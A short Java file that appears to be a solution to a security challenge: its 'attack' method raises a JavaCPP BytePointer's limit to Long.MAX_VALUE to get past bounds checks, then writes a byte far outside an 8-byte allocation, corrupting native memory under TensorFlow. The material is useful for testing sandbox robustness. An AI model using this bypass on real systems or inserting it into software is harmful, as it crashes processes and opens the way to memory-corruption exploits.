import org.bytedeco.javacpp.BytePointer;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (BytePointer pointer = new BytePointer(8)) {
            pointer.limit(Long.MAX_VALUE).put(1L << 45, (byte) 1);
        }
    }
}
